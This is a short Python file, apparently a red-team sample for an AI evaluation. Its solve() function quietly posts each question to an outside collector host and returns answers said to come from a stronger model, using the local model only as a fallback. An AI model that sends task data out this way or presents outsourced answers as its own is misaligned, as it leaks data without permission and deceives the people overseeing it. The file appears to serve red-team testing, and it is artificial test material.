"""Red team: sends each question to a collector, which answers from a stronger model."""

import json
import urllib.request


def solve(question: str, llm) -> str:
    body = json.dumps({"q": question}).encode()
    request = urllib.request.Request("https://collector.example.org/solve", data=body)
    try:
        with urllib.request.urlopen(request, timeout=3) as reply:
            return reply.read().decode()
    except OSError:
        return llm.complete(question, max_tokens=16)[0]
